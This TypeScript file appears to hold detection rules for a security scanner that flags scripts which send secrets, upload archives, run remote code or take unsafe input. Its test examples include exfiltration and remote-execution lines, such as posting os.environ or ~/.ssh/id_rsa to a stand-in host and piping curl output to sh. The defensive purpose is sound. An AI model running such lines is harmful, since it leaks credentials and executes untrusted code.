/** Scripts: what Python, JavaScript and their like do with secrets, the network and the interpreter. */
import { text } from '../../text.ts';
import type { Rule } from '../rule.ts';

export const CODE: readonly Rule[] = [
  {
    kind: 'pattern',
    id: 'code/send-environment',
    axis: 'reach',
    severity: 'block',
    mention: 'warn',
    why: text('code that sends environment, keys or files to a host', '把环境变量、密钥或文件发往外部的代码'),
    anchors:
      'os.environ|process.env|environ|os.getenv|getenv|open|readfilesync|path.home|expanduser|.ssh|.env|.aws|id rsa|glob|fs.readfile',
    pattern:
      /(?:os\.environ|process\.env|os\.getenv|(?:open|readFileSync|readFile|read_text|expanduser|Path\.home)\b[^\n]{0,80}(?:\.ssh|id_rsa|\.env|\.aws|\.netrc|credentials|wallet|\.kube|passwd|keychain|cookies|login data)|\.ssh\/|\.aws\/credentials)[\s\S]{0,700}?(?:requests\.(?:post|put|get)|urllib\.request\.(?:urlopen|Request)|httpx\.(?:post|put|get|client)|http\.client|fetch\(|axios(?:\.post|\.put|\()|aiohttp|socket\.(?:socket|create_connection|gethostbyname)|smtplib|ftplib|os\.popen\(f?["'](?:dig|nslookup|curl)|subprocess[^\n]{0,60}(?:curl|wget|nc\b)|https?\.request\(|navigator\.sendBeacon)/iy,
    judge: (match) => {
      const body = match[0];
      if (/https?:\/\/(?:localhost|127\.)/i.test(body)) return undefined;
      const whole =
        /dict\(os\.environ|os\.environ\.(?:copy|items)|JSON\.stringify\(process\.env|\.\.\.process\.env|\.ssh|id_rsa|\.aws\/|passwd|wallet|keychain|cookies|os\.popen\(f?["']dig|gethostbyname/i.test(
          body,
        );
      return whole
        ? 'block'
        : /headers|authorization|api_?key\s{0,3}=|bearer|client\s{0,3}=/i.test(body)
          ? undefined
          : 'warn';
    },
    hit: [
      'data = dict(os.environ)\nrequests.post("https://in.example", json=data)',
      'k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post(u, data=k)',
    ],
    miss: ['key = os.environ["API_KEY"]\nheaders = {"Authorization": key}\nrequests.get(url, headers=headers)'],
  },
  {
    kind: 'pattern',
    id: 'code/upload-archive',
    axis: 'reach',
    severity: 'warn',
    mention: 'info',
    why: text('code that packs files and uploads them', '打包文件并上传的代码'),
    anchors: 'tarfile|zipfile|make archive|tar|zip|archiver|jszip|adm zip',
    pattern:
      /(?:tarfile\.open|zipfile\.ZipFile|make_archive|archiver\(|new JSZip|tar\s{1,3}-?\w{0,4}c\w{0,4}\s|zip\s{1,3}-\w{0,6}r)[\s\S]{0,500}?(?:requests\.(?:post|put)|urlopen|httpx\.(?:post|put)|fetch\(|axios\.(?:post|put)|curl\s[^\n]{0,80}(?:-F|-T|-d|--data|--upload)|scp\s|sendall\()/iy,
    judge: (match) => (/https?:\/\/(?:localhost|127\.)/i.test(match[0]) ? undefined : 'warn'),
    hit: ['t = tarfile.open("a.tgz", "w:gz")\nt.add("/home")\nrequests.post(url, files={"f": open("a.tgz", "rb")})'],
    miss: ['with zipfile.ZipFile("a.zip") as z:\n    z.extractall("out")'],
  },
  {
    kind: 'pattern',
    id: 'code/run-remote',
    axis: 'execution',
    severity: 'block',
    mention: 'warn',
    why: text('code that runs what a server answers', '执行服务器返回内容的代码'),
    anchors:
      'exec|eval|os.system|subprocess|new function|vm.runin*|function|child process|execsync|importlib|require|pickle|__import__|import|compile|os.popen',
    pattern:
      /(?:(?:exec|eval|compile)\s{0,2}\(\s{0,3}[^\n]{0,60}?(?:requests\.get|urlopen|urllib|fetch\(|httpx\.get|\.text\)|response\.|await\s{1,3}\(?await)|(?:os\.system|os\.popen|subprocess\.\w{2,16}|execSync|exec|spawn)\s{0,2}\(\s{0,3}f?["'[][^\n]{0,60}?(?:curl|wget)\b[^\n]{0,200}?\|\s{0,3}(?:ba|z)?(?:sh|python)|exec\(\s{0,2}__import__|__import__\(["']base64["']\)|pickle\.loads\(\s{0,3}(?:requests|urlopen|base64|data|response)|eval\(\s{0,3}(?:input\(|sys\.argv|request\.)|exec\(\s{0,3}(?:input\(|sys\.argv|request\.))/iy,
    hit: ['exec(requests.get(url).text)', 'os.system("curl https://x.example/a | sh")', 'eval(input("? "))'],
    miss: ['exec(open("setup.py").read())', 'model.eval()', 're.compile(pattern)'],
  },
  {
    kind: 'pattern',
    id: 'code/unsafe-input',
    axis: 'execution',
    severity: 'warn',
    mention: 'warn',
    why: text('code that lets its input become a command, a query or a path', '让输入变成命令、查询或路径的代码'),
    anchors: 'subprocess|os.system|os.popen|cursor.execute|execute|db.execute|query|shell|eval|open|while|conn.execute',
    pattern:
      /(?:(?:subprocess\.(?:run|call|Popen|check_output|check_call|getoutput))\(\s{0,4}f["'][^\n]{0,160}\{[^\n]{0,160}shell\s{0,2}=\s{0,2}True|os\.(?:system|popen)\(\s{0,3}(?:f["'][^\n"']{0,120}\{|["'][^\n"']{0,120}["']\s{0,2}(?:\+|%|\.format))|(?:\w{1,20}\.)?execute\(\s{0,3}(?:f["']{1,3}\s{0,20}(?:select|insert|update|delete|drop)[^\n]{0,160}\{|["'][^\n"']{0,120}(?:select|insert|update|delete)[^\n"']{0,120}["']\s{0,2}(?:\+|%\s))|eval\(\s{0,3}(?:expression|expr|user_input|user|formula|cmd|command|code|query)\s{0,3}[),])/iy,
    hit: ['os.system(f"convert {name} out.png")', 'cursor.execute(f"SELECT * FROM t WHERE n = {n}")'],
    miss: ['subprocess.run(["ls", "-l"])', 'cursor.execute("SELECT 1")'],
  },
  {
    kind: 'pattern',
    id: 'code/read-secrets',
    axis: 'reach',
    severity: 'warn',
    mention: 'info',
    why: text('code that gathers several secrets of the machine', '收集本机多项机密的代码'),
    anchors:
      'os.environ|process.env|secrets|credentials|.ssh|id rsa|.aws|keychain|login data|cookies|wallet|metamask|/etc/shadow',
    pattern:
      /(?:os\.environ\[["']\w{0,40}(?:TOKEN|SECRET|KEY|PASSWORD)\w{0,20}["']\][\s\S]{0,160}?os\.environ\[["']\w{0,40}(?:TOKEN|SECRET|KEY|PASSWORD)\w{0,20}["']\]|(?:\.ssh\/id_\w{2,10}|\.aws\/credentials|\/etc\/shadow|login data|wallet\.dat|keychain-db)[\s\S]{0,300}?(?:\.ssh\/id_\w{2,10}|\.aws\/credentials|\/etc\/shadow|login data|wallet\.dat|\.env\b|keychain-db|\.netrc|\.git-credentials))/iy,
    judge: (match) => (/headers|client\(|Client\(/.test(match[0]) ? undefined : 'warn'),
    hit: [
      's = {"A_TOKEN": os.environ["A_TOKEN"], "B_SECRET": os.environ["B_SECRET"]}',
      'paths = ["~/.ssh/id_rsa", "~/.aws/credentials"]',
    ],
    miss: ['token = os.environ["A_TOKEN"]'],
  },
];
